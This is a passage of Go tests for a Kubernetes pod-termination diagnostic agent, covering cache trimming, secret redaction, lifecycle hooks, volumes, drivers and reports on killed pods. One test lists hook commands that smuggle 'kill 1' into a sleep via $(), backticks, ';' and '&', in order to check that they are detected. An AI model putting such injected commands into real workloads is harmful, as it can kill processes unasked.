			Terminated: &corev1.ContainerStateTerminated{ExitCode: 3, Reason: "OOMKilled", StartedAt: metav1.NewTime(time.Unix(1001, 0)),
				FinishedAt: metav1.NewTime(time.Unix(1005, 0)), Message: "secret"},
		}}},
		ExtendedResourceClaimStatus: &corev1.PodExtendedResourceClaimStatus{ResourceClaimName: "secret"},

		Phase: corev1.PodRunning, ObservedGeneration: 3,
		Conditions: []corev1.PodCondition{{Type: corev1.PodReady}, {Type: verdict.ConditionType, Reason: "X"}},
	}
	obj, err := Trim(p)
	if err != nil {
		t.Fatal(err)
	}
	got := Seed(obj.(*corev1.Pod))
	want := Seed(p)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Trim changes what the agent sees (-whole +trimmed):\n%s", diff)
	}
	text := obj.(*corev1.Pod).String()
	for _, secret := range []string{"PASSWORD", "--token", "secret", "token"} {
		if strings.Contains(text, secret) {
			t.Errorf("the cache would hold %q", secret)
		}
	}
	if got := subject(obj.(*corev1.Pod)); got.Owner != "set" || got.EventUID != hash {
		t.Errorf("the controller is %q, Events are about UID %q", got.Owner, got.EventUID)
	}
	if n := len(obj.(*corev1.Pod).Status.Conditions); n != 1 {
		t.Errorf("%d conditions kept, want our own only", n)
	}
	if diff := cmp.Diff([]evidence.Container{
		{Name: "side", Kind: evidence.Sidecar}, {Name: "init", Kind: evidence.Init},
		{Name: "app", Kind: evidence.App, SaidID: "c1", PreStop: true, PreStopProgram: "drain", PostStart: true, PostStartProgram: "register",
			Exit: &evidence.Exit{Code: 3, Started: time.Unix(1001, 0), At: time.Unix(1005, 0), OutOfMemory: true}}, {Name: "debug", Kind: evidence.Ephemeral},
	}, got.Containers); diff != "" {
		t.Error(diff)
	}
	if got.RuntimeUID != hash || !got.Mirror || !got.HostPID || !got.ShareProcessNamespace || got.ResourceClaims != 2 {
		t.Errorf("got %+v", got)
	}
}

// Whatever a pod has a hundred thousand of, little of it is kept.
func TestTrimIsBounded(t *testing.T) {
	const many = 100_000
	p := terminating("a", time.Unix(1000, 0), 30)
	p.Finalizers = slices.Repeat([]string{"a.b/c"}, many)
	p.Spec.ResourceClaims = make([]corev1.PodResourceClaim, many)
	p.Spec.Containers, p.Spec.InitContainers = make([]corev1.Container, many), make([]corev1.Container, many)
	p.Spec.EphemeralContainers = make([]corev1.EphemeralContainer, many)
	p.Spec.Volumes = slices.Repeat([]corev1.Volume{{Name: "v", VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "c"}}}}, many)
	p.Status.ContainerStatuses, p.Status.InitContainerStatuses = make([]corev1.ContainerStatus, many), make([]corev1.ContainerStatus, many)
	p.Status.Conditions = slices.Repeat([]corev1.PodCondition{{Type: verdict.ConditionType, Status: corev1.ConditionTrue}}, many)
	for _, terminates := range []bool{true, false} {
		if !terminates {
			p.DeletionTimestamp = nil
		}
		obj, err := Trim(p)
		if err != nil {
			t.Fatal(err)
		}
		if n := obj.(*corev1.Pod).Size(); n > 16<<10 {
			t.Errorf("terminates %v: %d bytes are kept", terminates, n)
		}
		if n := cap(obj.(*corev1.Pod).Finalizers); n > 2*mostKept {
			t.Errorf("room for %d finalizers is kept", n)
		}
	}
}

// Of hooks that the kubelet is busy with itself, the seconds and the port are kept, and stay the same
// in the cache.
func TestHooksOfTheKubelet(t *testing.T) {
	get := func(port intstr.IntOrString, host string) *corev1.LifecycleHandler {
		return &corev1.LifecycleHandler{HTTPGet: &corev1.HTTPGetAction{
			Port: port, Host: host, Path: "/secret", HTTPHeaders: []corev1.HTTPHeader{{Name: "Authorization", Value: "secret"}},
		}}
	}
	sleep := func(n int64) *corev1.LifecycleHandler {
		return &corev1.LifecycleHandler{Sleep: &corev1.SleepAction{Seconds: n}}
	}
	for name, tc := range map[string]struct {
		preStop, postStart *corev1.LifecycleHandler
		timeout            int32 // of a probe, in seconds
		want               evidence.Container
	}{
		"sleeps":      {sleep(20), sleep(5), 0, evidence.Container{PreStop: true, PreStopSleep: 20, PostStart: true, PostStartSleep: 5}},
		"without end": {sleep(math.MaxInt64), sleep(0), 0, evidence.Container{PreStop: true, PreStopSleep: maxSleep}},
		"do nothing":  {sleep(0), &corev1.LifecycleHandler{TCPSocket: &corev1.TCPSocketAction{Port: intstr.FromInt(80)}}, 0, evidence.Container{}},
		"ports": {get(intstr.FromInt(80), ""), get(intstr.FromString("web"), ""), 0, evidence.Container{PreStop: true,
			PreStopPort: 80, PostStart: true, PostStartPort: 8080}},
		"a number as text":    {get(intstr.FromString("81"), ""), nil, 0, evidence.Container{PreStop: true, PreStopPort: 81}},
		"a name that is none": {get(intstr.FromString("no"), ""), nil, 0, evidence.Container{PreStop: true}},
		"another host": {get(intstr.FromInt(80), "example.com"), get(intstr.FromInt(80), "127.0.0.1"), 0,
			evidence.Container{PreStop: true, PostStart: true}},
		"not a port":            {get(intstr.FromInt(-1), ""), get(intstr.FromInt(1<<16), ""), 0, evidence.Container{PreStop: true, PostStart: true}},
		"a probe that is quick": {get(intstr.FromInt(80), ""), nil, 4, evidence.Container{PreStop: true, PreStopPort: 80}},
		"a probe that waits":    {get(intstr.FromInt(80), ""), get(intstr.FromInt(80), ""), 5, evidence.Container{PreStop: true, PostStart: true}},
	} {
		p := terminating("a", time.Unix(1000, 0), 30)
		c := corev1.Container{
			Name: "app", Ports: []corev1.ContainerPort{{Name: "other", ContainerPort: 9}, {Name: "web", ContainerPort: 8080}},
			Lifecycle: &corev1.Lifecycle{PreStop: tc.preStop, PostStart: tc.postStart},
		}
		if tc.timeout != 0 {
			c.ReadinessProbe = &corev1.Probe{TimeoutSeconds: tc.timeout}
		}
		p.Spec.Containers = []corev1.Container{c}
		obj, err := Trim(p)
		if err != nil {
			t.Fatal(err)
		}
		tc.want.Name, tc.want.Kind = "app", evidence.App
		for _, seen := range []*corev1.Pod{p, obj.(*corev1.Pod)} {
			if diff := cmp.Diff([]evidence.Container{tc.want}, Seed(seen).Containers); diff != "" {
				t.Errorf("%s: %s", name, diff)
			}
		}
		if text := obj.(*corev1.Pod).String(); strings.Contains(text, "/secret") || strings.Contains(text, "Authorization") {
			t.Errorf("%s: the cache would hold a path or a header", name)
		}
	}
}

// A hook that only sleeps is told apart from one that may ask somebody to end, in the cache too, and nothing else is kept of what it executes.
func TestHookOnlySleeps(t *testing.T) {
	for command, want := range map[string]bool{
		"sleep|15": true, "/bin/sleep|15s": true, "sleep|1|2": false, "sleep": false,
		"sh|-c|sleep 15": true, "/bin/sh|-c| exec /bin/sleep 15 ; true": true, `bash|-c|sleep "${DRAIN:-15}"; exit 0`: true,
		"sh|-c|sleep $(kill 1)": false, "sh|-c|sleep 5 && nginx -s quit": false, "sh|-c|sleep 5; kill 1": false, "sh|-c|sleep 5 & kill 1": false,
		"sh|-c|sleep 5\nkill 1": false, "nginx|-s|quit": false, "sh|/sleep.sh": false, "sh|-c|sleep `kill 1`": false,
	} {
		words := strings.Split(strings.ReplaceAll(command, `\n`, "\n"), "|")
		p := terminating("a", time.Unix(1000, 0), 30)
		hook := &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: words}}
		p.Spec.Containers = []corev1.Container{{Name: "app", Lifecycle: &corev1.Lifecycle{PreStop: hook}}}
		obj, err := Trim(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, seen := range []*corev1.Pod{p, obj.(*corev1.Pod)} {
			if c := Seed(seen).Containers[0]; c.PreStopOnlySleeps != want || c.PreStopProgram != path.Base(words[0]) {
				t.Errorf("%s: %t, %s", command, c.PreStopOnlySleeps, c.PreStopProgram)
			}
		}
		hook = obj.(*corev1.Pod).Spec.Containers[0].Lifecycle.PreStop
		if text := strings.Join(hook.Exec.Command, " "); strings.Contains(text, "15") || strings.Contains(text, "kill") {
			t.Errorf("%s: the cache would hold %s", command, text)
		}
	}
}

// The port of a hook is not kept where the kubelet may ask it something else that has no answer for as
// long: a probe of any container, and a preStop hook of one that was ended before.
func TestHooksThatAreNotAlone(t *testing.T) {
	always := corev1.ContainerRestartPolicyAlways
	for name, tc := range map[string]struct {
		change func(p *corev1.Pod)
		want   int
	}{
		"alone": {func(*corev1.Pod) {}, 80},
		"a slow probe of another container": {func(p *corev1.Pod) {
			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "other", LivenessProbe: &corev1.Probe{TimeoutSeconds: 30}})
		}, 0},
		"a slow probe of a sidecar": {func(p *corev1.Pod) {
			p.Spec.InitContainers = []corev1.Container{{Name: "side", RestartPolicy: &always, StartupProbe: &corev1.Probe{TimeoutSeconds: 30}}}
		}, 0},
		"started anew, and the hook of before may still wait for another container": {func(p *corev1.Pod) {
			p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "app", RestartCount: 1}}
		}, 0},
		"another one was started anew": {func(p *corev1.Pod) {
			p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "other", RestartCount: 1}}
		}, 80},
	} {
		p := terminating("a", time.Unix(1000, 0), 30)
		get := &corev1.LifecycleHandler{HTTPGet: &corev1.HTTPGetAction{Port: intstr.FromInt32(80)}}
		p.Spec.Containers = []corev1.Container{{Name: "app", Lifecycle: &corev1.Lifecycle{PreStop: get, PostStart: get}}}
		tc.change(p)
		obj, err := Trim(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, seen := range []*corev1.Pod{p, obj.(*corev1.Pod)} {
			all := Seed(seen).Containers
			c := all[slices.IndexFunc(all, func(c evidence.Container) bool { return c.Name == "app" })]
			if c.PreStopPort != tc.want || c.PostStartPort != tc.want {
				t.Errorf("%s: ports %d and %d, want %d", name, c.PreStopPort, c.PostStartPort, tc.want)
			}
		}
	}
}

// What the specification calls its volumes is kept where one is behind a claim, and stays the same
// in the cache.
func TestSpecifiedVolumes(t *testing.T) {
	claim := func(name, claim string) corev1.Volume {
		return corev1.Volume{Name: name, VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: claim}}}
	}
	host := corev1.Volume{Name: "sockets", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/var/lib/kubelet/plugins/disk.test"}}}
	for name, tc := range map[string]struct {
		volumes []corev1.Volume
		want    []evidence.SpecVolume
	}{
		"no claim": {[]corev1.Volume{host}, nil},
		"a claim, a device and an ephemeral volume": {
			[]corev1.Volume{claim("data", "web-data"), host, claim("disk", "web-disk"), {Name: "cache",
				VolumeSource: corev1.VolumeSource{Ephemeral: &corev1.EphemeralVolumeSource{}}}},
			[]evidence.SpecVolume{{Name: "data", Claim: "web-data", At: []evidence.SpecMount{{Container: "format", Path: "/a"}, {Container: "main",
				Path: "/data"}}}, {Name: "sockets"}, {Name: "disk", Claim: "web-disk", Block: true}, {Name: "cache", Claim: "a-cache"}},
		},
		"one that the kubelet translates": {[]corev1.Volume{claim("data", "web-data"), {Name: "old",
			VolumeSource: corev1.VolumeSource{AWSElasticBlockStore: &corev1.AWSElasticBlockStoreVolumeSource{}}}}, nil},
		"too many": {slices.Repeat([]corev1.Volume{claim("data", "web-data")}, maxSpecified+1), nil},
	} {
		p := terminating("a", time.Unix(1000, 0), 30)
		p.Spec.Volumes = tc.volumes
		p.Spec.InitContainers = []corev1.Container{{
			Name: "format", VolumeDevices: []corev1.VolumeDevice{{Name: "disk", DevicePath: "/dev/x"}},
			VolumeMounts: []corev1.VolumeMount{{Name: "data", MountPath: "/a/", SubPath: "secret"}},
		}}
		p.Spec.Containers = []corev1.Container{{Name: "main", VolumeMounts: []corev1.VolumeMount{{Name: "data", MountPath: "data"},
			{Name: "sockets", MountPath: "/secret"}}}}
		trimmed, err := Trim(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range []*corev1.Pod{p, trimmed.(*corev1.Pod)} {
			if diff := cmp.Diff(tc.want, Seed(p).Specified); diff != "" {
				t.Errorf("%s: %s", name, diff)
			}
		}
		if text := trimmed.(*corev1.Pod).String(); strings.Contains(text, "secret") {
			t.Errorf("%s: the cache would hold %s", name, text)
		}
	}
	// Whoever may create pods chooses how many devices each container has, and how long the paths are.
	large := terminating("a", time.Unix(1000, 0), 30)
	for i := range maxSpecified {
		disk := fmt.Sprintf("disk-%d", i)
		large.Spec.Volumes = append(large.Spec.Volumes, claim(disk, "web-"+disk))
		large.Spec.Containers = append(large.Spec.Containers, corev1.Container{Name: fmt.Sprintf("c-%d", i),
			VolumeMounts: []corev1.VolumeMount{{Name: disk, MountPath: "/" + strings.Repeat("x", 20<<10)}}})
		for j := range large.Spec.Containers {
			large.Spec.Containers[j].VolumeDevices = slices.Repeat([]corev1.VolumeDevice{{Name: disk, DevicePath: "/dev/x"}}, 8)
		}
	}
	trimmed, err := Trim(large)
	if err != nil {
		t.Fatal(err)
	}
	if n := trimmed.(*corev1.Pod).Size(); n > 64<<10 {
		t.Errorf("the cache would hold %d bytes of a pod of %d", n, large.Size())
	}
	devices := 0
	for _, c := range trimmed.(*corev1.Pod).Spec.Containers {
		devices += len(c.VolumeDevices)
	}
	if devices > maxSpecified {
		t.Errorf("the cache would hold %d devices", devices)
	}
	// Nor is each of thousands of volumes looked for in each of thousands of places.
	for i := range 4096 {
		more := fmt.Sprintf("more-%d", i)
		large.Spec.Volumes = append(large.Spec.Volumes, claim(more, more))
		large.Spec.Containers[0].VolumeMounts = append(large.Spec.Containers[0].VolumeMounts, corev1.VolumeMount{Name: more, MountPath: more})
	}
	if n := testing.AllocsPerRun(1, func() { specified(large) }); n > 1024 {
		t.Errorf("%.0f allocations for a pod of which nothing is kept", n)
	}
	mirror := terminating("a", time.Unix(1000, 0), 30)
	mirror.Annotations = map[string]string{verdict.MirrorAnnotation: ""}
	mirror.Spec.Volumes = []corev1.Volume{claim("data", "web-data")}
	if got := Seed(mirror).Specified; got != nil {
		t.Errorf("of a mirror pod: %v", got)
	}
}

func TestAsk(t *testing.T) {
	now := time.Now()
	pod := func(name, uid string, phase corev1.PodPhase, deleted time.Duration, annotations map[string]string) *corev1.Pod {
		p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: name, UID: types.UID(uid), Annotations: annotations}}
		p.Status.Phase = phase
		if deleted != 0 {
			p.DeletionTimestamp = &metav1.Time{Time: now.Add(-deleted)}
		}
		return p
	}
	hash := "0123456789abcdef0123456789abcdef"
	web := pod("web", "8f1c3b52-0c7e-4f0e-9d55-2f6f0f9b6a01", corev1.PodRunning, time.Minute, map[string]string{verdict.HashAnnotation: "not a mirror pod's"})
	etcd := pod("etcd", "u-2", corev1.PodRunning, 0, map[string]string{verdict.MirrorAnnotation: hash, verdict.HashAnnotation: hash})
	want := node.Ask{Deletable: 2, Names: map[string]string{"8f1c3b52-0c7e-4f0e-9d55-2f6f0f9b6a01": "ns/web", hash: "ns/etcd", "u-6": "ns/liar"}}
	// Whoever may create pods may call one a mirror pod, of somebody else's pod.
	liar := pod("liar", "u-6", corev1.PodRunning, 0, map[string]string{verdict.MirrorAnnotation: "x", verdict.HashAnnotation: string(web.UID)})
	if diff := cmp.Diff(want, Ask([]*corev1.Pod{web, etcd, liar}, now)); diff != "" {
		t.Error(diff)
	}
	if e := Seed(liar); e.RuntimeUID != "u-6" {
		t.Errorf("the processes of %s are read for another pod", e.RuntimeUID)
	} else if e.Missing[evidence.Cgroups] == "" || e.Missing[evidence.Volumes] == "" {
		t.Error("what the node has of a pod is taken for absent whose UID there is not known")
	}
	if e := Seed(etcd); e.Missing != nil {
		t.Errorf("of a mirror pod is missing %v", e.Missing)
	}
	thief := pod("thief", "u-7", corev1.PodRunning, 0, map[string]string{verdict.MirrorAnnotation: hash, verdict.HashAnnotation: hash})
	if got := Ask([]*corev1.Pod{etcd, thief}, now).Names[hash]; got != "" {
		t.Errorf("of two pods that name one UID %s is believed", got)
	}
	driver := func(dir string, ready corev1.ConditionStatus) *corev1.Pod {
		p := pod("driver-x", "u-9", corev1.PodRunning, 0, nil)
		p.Spec.Volumes = []corev1.Volume{{Name: "other"}, {Name: "dir", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: dir}}}}
		p.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodReady, Status: ready}}
		trimmed, err := Trim(p)
		if err != nil {
			t.Fatal(err)
		}
		return trimmed.(*corev1.Pod)
	}
	for _, tc := range []struct {
		dir   string
		ready corev1.ConditionStatus
		want  map[string]node.Driver
	}{
		{"/var/lib/kubelet/plugins/disk.test/", corev1.ConditionTrue, map[string]node.Driver{"disk.test": {Pod: "ns/driver-x", State: evidence.DriverRunning}}},
		{"/var/lib/kubelet/plugins/disk.test", corev1.ConditionFalse, map[string]node.Driver{"disk.test": {Pod: "ns/driver-x", State: evidence.DriverNotReady}}},
		{"/var/lib/kubelet/plugins", corev1.ConditionTrue, nil},
		{"/var/lib/kubelet/plugins_registry/disk.test", corev1.ConditionTrue, nil},
	} {
		if diff := cmp.Diff(tc.want, Ask([]*corev1.Pod{driver(tc.dir, tc.ready)}, now).Drivers); diff != "" {
			t.Errorf("%s: %s", tc.dir, diff)
		}
	}
	gone := driver("/var/lib/kubelet/plugins/disk.test", corev1.ConditionTrue)
	gone.DeletionTimestamp = &metav1.Time{Time: now}
	if got := Ask([]*corev1.Pod{gone}, now).Drivers["disk.test"].State; got != evidence.DriverTerminating {
		t.Errorf("a driver that is deleted is %s", got)
	}
	// A long path is not kept, and a long name is no driver's.
	long := driver("/"+strings.Repeat("x/", 1<<16)+"plugins/disk.test", corev1.ConditionTrue)
	if Ask([]*corev1.Pod{long}, now).Drivers["disk.test"].Pod == "" || long.Size() > 1024 {
		t.Errorf("%d bytes are kept of a driver's pod", long.Size())
	}
	if got := Ask([]*corev1.Pod{driver("/plugins/"+strings.Repeat("x", maxDriver+1), corev1.ConditionTrue)}, now).Drivers; got != nil {
		t.Errorf("drivers %v", got)
	}
	// A second pod with that directory, as a hostile one or a driver's helper: nobody is told to restart either.
	second := driver("/etc/plugins/disk.test", corev1.ConditionFalse)
	second.Name = "another"
	for _, pods := range [][]*corev1.Pod{{gone, second}, {second, gone}, {gone, second, second}} {
		if got := Ask(pods, now).Drivers["disk.test"]; got != (node.Driver{}) {
			t.Errorf("of two pods with the driver's directory %+v is named", got)
		}
	}
	done, early, late := pod("done", "u-3", corev1.PodSucceeded, 0, nil), pod("early", "u-4", corev1.PodFailed, -time.Minute, nil), pod("late",
		"u-5", corev1.PodFailed, time.Minute, nil)
	if got := Ask([]*corev1.Pod{web, done, early}, now); got.Unmounting != 2 || got.Unmounts {
		t.Errorf("before the deadline: %+v", got)
	}
	if got := Ask([]*corev1.Pod{web, done, late}, now); got.Unmounting != 2 || !got.Unmounts {
		t.Errorf("past the deadline: %+v", got)
	}
}

// Programs that scan files are looked for when the end of a pod past its deadline has waited for one for a while.
func TestAskAboutScanners(t *testing.T) {
	now := time.Now()
	for name, tc := range map[string]struct {
		grace       int64
		since, last time.Duration // ago
		want        bool
	}{
		"a minute":                  {5, time.Minute, 0, true},
		"less":                      {5, 59 * time.Second, 0, false},
		"inside the grace period":   {3600, time.Minute, 0, false},
		"not for the last 5 min":    {5, 10 * time.Minute, 6 * time.Minute, false},
		"between two tries of runc": {5, 5 * time.Minute, 4 * time.Minute, true},
	} {
		b, pods := newBench(), []*corev1.Pod{terminating("a", now.Add(-10*time.Minute), tc.grace)}
		b.choose(pods, now, true)
		c := b.Cases.Open("a")
		if c == nil {
			t.Fatal("no case")
		}
		c.Last = &evidence.Pod{ScannerWaits: evidence.ScannerWaits{
			Since: now.Add(-time.Hour), Last: now.Add(-tc.last), UnansweredSince: now.Add(-tc.since), Waits: 3,
		}}
		if got := b.choose(pods, now, true).scanned; got != tc.want {
			t.Errorf("%s: %t", name, got)
		}
	}
}

// The pods are counted of which the kubelet may be having claims released, and it is asked
// when one of them is late.
func TestAskAboutClaims(t *testing.T) {
	now := time.Now()
	pod := func(phase corev1.PodPhase, runs bool, deleted time.Duration) *corev1.Pod {
		p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "gpu", UID: "u-1"}}
		p.Spec.ResourceClaims = []corev1.PodResourceClaim{{Name: "gpu"}}
		p.Status.Phase = phase
		p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "main", State: corev1.ContainerState{Terminated: new(corev1.ContainerStateTerminated)}}}
		if runs {
			p.Status.ContainerStatuses[0].State = corev1.ContainerState{Running: new(corev1.ContainerStateRunning)}
		}
		if deleted != 0 {
			p.DeletionTimestamp = &metav1.Time{Time: now.Add(-deleted)}
		}
		trimmed, err := Trim(p)
		if err != nil {
			t.Fatal(err)
		}
		return trimmed.(*corev1.Pod)
	}
	without := pod(corev1.PodRunning, true, time.Minute)
	without.Spec.ResourceClaims = nil
	extended := pod(corev1.PodRunning, true, time.Minute)
	extended.Spec.ResourceClaims, extended.Status.ExtendedResourceClaimStatus = nil, new(corev1.PodExtendedResourceClaimStatus)
	for name, tc := range map[string]struct {
		pod   *corev1.Pod
		count int
		asks  bool
	}{
		"runs":                   {pod(corev1.PodRunning, true, 0), 0, false},
		"has completed":          {pod(corev1.PodRunning, false, 0), 1, false},
		"in its grace period":    {pod(corev1.PodRunning, true, -time.Minute), 1, false},
		"late":                   {pod(corev1.PodRunning, true, time.Minute), 1, true},
		"late, and has ended":    {pod(corev1.PodFailed, false, time.Minute), 0, true},
		"has ended":              {pod(corev1.PodSucceeded, false, 0), 0, false},
		"has no claims":          {without, 0, false},
		"has extended resources": {extended, 1, true},
	} {
		if got := Ask([]*corev1.Pod{tc.pod}, now); got.Unpreparing != tc.count || got.Unprepares != tc.asks {
			t.Errorf("a pod that %s: %+v", name, got)
		}
	}
}

// A pod that was killed at its deadline is looked back at: the last reading in
// full of it while it lived, and how its containers ended.
func TestGonePodIsLookedBackAt(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		start := time.Now()
		var told []evidence.Pod
		b.Diagnose = func(p *evidence.Pod) diagnose.Diagnosis {
			if p.Gone {
				told = append(told, *p)
			}
			return diagnose.Diagnosis{}
		}
		reported := 0
		b.ReportGone = func(_ context.Context, c *verdict.Case, at time.Time, _ diagnose.Diagnosis) bool {
			if reported++; c.Subject.UID != "a" || !at.Equal(start.Add(2*time.Second)) {
				t.Errorf("reported %s, last read at %s", c.Subject.UID, at)
			}
			return true
		}
		pod := terminating("a", start, 5)
		pod.Spec.Containers = []corev1.Container{{Name: "main"}}
		b.set([]*corev1.Pod{pod, terminating("empty", start, 5)})
		b.gather = func(_ context.Context, p *evidence.Pod) {
			if p.UID == "a" && time.Since(start) < 5*time.Second {
				p.Containers[0].ID = "c"
				p.Tasks = []evidence.Task{{PID: 7, TID: 7, Container: "c", State: evidence.Sleeping}}
			}
			if time.Since(start) >= 4*time.Second {
				p.Lack(evidence.Suspects, "no time was left")
			}
		}
		ctx, cancel := context.WithCancel(t.Context())
		done := make(chan struct{})
		go func() { b.Run(ctx); close(done) }()
		time.Sleep(9 * time.Second)
		last := pod.DeepCopy()
		last.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "main", State: corev1.ContainerState{
			Terminated: &corev1.ContainerStateTerminated{ExitCode: 137, FinishedAt: metav1.NewTime(start.Add(5 * time.Second))},
		}}}
		b.set(nil, last, terminating("empty", start, 5))
		time.Sleep(3 * time.Second)
		cancel()
		<-done
		if len(told) != 1 || reported != 1 {
			t.Fatalf("%d pods were looked back at and %d reported, want the one that lived", len(told), reported)
		}
		e := told[0]
		if !e.Gone || e.UID != "a" || !e.Time.Equal(start.Add(2*time.Second)) || len(e.Tasks) != 1 {
			t.Errorf("looked back at %+v", e)
		}
		want := &evidence.Exit{Code: 137, At: start.Add(5 * time.Second)}
		if diff := cmp.Diff(want, e.Containers[0].Exit); diff != "" {
			t.Error(diff)
		}
		if open := b.open("a", "empty"); len(open) != 0 {
			t.Errorf("still remembered: %v", open)
		}
	})
}

// Only a reading from before SIGKILL shows what the program was at.
func TestLives(t *testing.T) {
	for name, tc := range map[string]struct {
		task evidence.Task
		want bool
	}{
		"sleeps":                       {evidence.Task{State: evidence.Sleeping}, true},
		"has been killed":              {evidence.Task{State: evidence.Sleeping, Pending: 1 << (evidence.SIGKILL - 1)}, false},
		"exits, and has taken SIGKILL": {evidence.Task{State: evidence.Runnable, Probe: &evidence.Probe{Flags: evidence.PFExiting}}, false},
		"dumps its core":               {evidence.Task{State: evidence.Sleeping, CoreDumping: true, Probe: &evidence.Probe{Flags: evidence.PFExiting}}, true},
		"has ended":                    {evidence.Task{State: evidence.Zombie}, false},
	} {
		tc.task.PID, tc.task.TID, tc.task.Container = 7, 7, "c"
		if got := lives(&evidence.Pod{Containers: []evidence.Container{{ID: "c", Kind: evidence.App}}, Tasks: []evidence.Task{tc.task}}); got != tc.want {
			t.Errorf("%s: lives is %t", name, got)
		}
	}
}

// What the kubelet could not do is asked for before anything is told of a pod that is gone.
func TestGonePodIsAskedAbout(t *testing.T) {
	refused := errors.New("forbidden")
	for name, answer := range map[string]struct {
		events []eventsv1.Event
		err    error
		told   bool
	}{
		"nothing failed": {told: true},
		"a stop failed": {events: []eventsv1.Event{{DeprecatedSource: corev1.EventSource{Host: "n"},
			EventTime: metav1.NewMicroTime(time.Now().Add(time.Hour)), Note: "error killing pod"}}},
		"nobody answered": {err: refused},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				b := newBench()
				b.Failures = &Failures{Node: "n", Ask: func(context.Context, string, types.UID) ([]eventsv1.Event, error) { return answer.events, answer.err }}
				b.Diagnose = func(p *evidence.Pod) (d diagnose.Diagnosis) {
					if p.Gone && len(p.KillFailures) == 0 && p.Missing[evidence.Events] == "" {
						d.Findings = []diagnose.Finding{{Cause: "A"}}
					}
					return d
				}
				told := false
				b.ReportGone = func(_ context.Context, _ *verdict.Case, _ time.Time, d diagnose.Diagnosis) bool {
					_, told = d.Verdict()
					return told
				}
				b.liveUntilGone(t.Context())
				if told != answer.told {
					t.Errorf("told is %t, want %t", told, answer.told)
				}
			})
		})
	}
}

// Of the containers that were killed at the deadline those count as unexplained of which nothing is known: no finding, also none of the
// whole pod, and no cause that stands, or was found past the deadline. Unknown is none.
func TestKilledIsCounted(t *testing.T) {
	for name, tc := range map[string]struct {
		found       []diagnose.Finding // when it is gone
		stood       string
		until       time.Duration // when stood was found for the last time; 0 for always. The deadline is after 5 s
		unexplained int
	}{
		"nothing is known":             {unexplained: 2},
		"one of them is":               {found: []diagnose.Finding{{Cause: "A", Container: "main"}}, unexplained: 1},
		"a cause of the pod":           {found: []diagnose.Finding{{Cause: "A"}}},
		"a verdict stood all the time": {stood: "A"},
		"withdrawn, found past it":     {stood: "A", until: 10 * time.Second},
		"withdrawn, found before it":   {stood: "A", until: time.Second, unexplained: 2},
		"Unknown stood":                {stood: "Unknown", unexplained: 2},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				b, began := newBench(), time.Now()
				b.Diagnose = func(p *evidence.Pod) (d diagnose.Diagnosis) {
					switch {
					case p.Gone:
						d.Findings, d.Killed = tc.found, []string{"main", "proxy"}
					case tc.stood != "" && (tc.until == 0 || p.Time.Sub(began) <= tc.until):
						d.Findings = []diagnose.Finding{{Cause: tc.stood, Container: "main"}}
					}
					return d
				}
				b.ReportGone = func(context.Context, *verdict.Case, time.Time, diagnose.Diagnosis) bool { return false }
				b.liveFor(t.Context(), time.Minute)
				if b.killed != 2 || b.unexplained != tc.unexplained {
					t.Errorf("%d killed, %d of them unexplained, want 2 and %d", b.killed, b.unexplained, tc.unexplained)
				}
			})
		})
	}
}

// What the kubelet could not do is asked for once before anything is told inside the grace period, and
// not again and again when it says why nothing is told.
func TestAskedInGrace(t *testing.T) {
	for name, answer := range map[string]struct {
		events []eventsv1.Event
		told   bool
		asked  int
	}{
		"nothing failed": {told: true, asked: 1},
		"the signal could not be sent": {asked: 2,
			events: []eventsv1.Event{{DeprecatedSource: corev1.EventSource{Host: "n"}, EventTime: metav1.NewMicroTime(time.Now().Add(time.Hour)),
				Note: "error killing pod"}}},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				b, asked, told := newBench(), 0, false
				b.Failures = &Failures{Node: "n", Ask: func(context.Context, string, types.UID) ([]eventsv1.Event, error) {
					asked++
					return answer.events, nil
				}}
				b.Diagnose = func(p *evidence.Pod) (d diagnose.Diagnosis) {
					if len(p.KillFailures) == 0 {
						d.Findings = []diagnose.Finding{{Cause: "A"}}
					}
					return d
				}
				b.Report = func(_ context.Context, c *verdict.Case) { told = told || c.Outcome() == verdict.Found }
				b.set([]*corev1.Pod{terminating("a", time.Now(), 60)})
				ctx, cancel := context.WithCancel(t.Context())
				done := make(chan struct{})
				go func() { b.Run(ctx); close(done) }()
				time.Sleep(askEach + 4*time.Second)
				cancel()
				<-done
				if told != answer.told || asked != answer.asked {
					t.Errorf("told is %t and the API server was asked %d times, want %t and %d", told, asked, answer.told, answer.asked)
				}
			})
		})
	}
}

// The first deadline of a pod that was being deleted before is not known when its
// grace period is not that of its specification.
func TestDoubtDeadline(t *testing.T) {
	long := int64(600)
	for name, tt := range map[string]struct {
		grace  int64
		phase  corev1.PodPhase
		unsure bool
	}{
		"the specification's": {600, corev1.PodRunning, false},
		"a shorter one":       {20, corev1.PodRunning, true},
		"a forced deletion":   {0, corev1.PodRunning, true},
		"the final deletion":  {0, corev1.PodSucceeded, false},
	} {
		p := &corev1.Pod{Spec: corev1.PodSpec{TerminationGracePeriodSeconds: &long}, Status: corev1.PodStatus{Phase: tt.phase}}
		p.UID = "u"
		now := metav1.Now()
		p.DeletionTimestamp, p.DeletionGracePeriodSeconds = &now, &tt.grace
		obj, err := Trim(p)
		if err != nil {
			t.Fatal(err)
		}
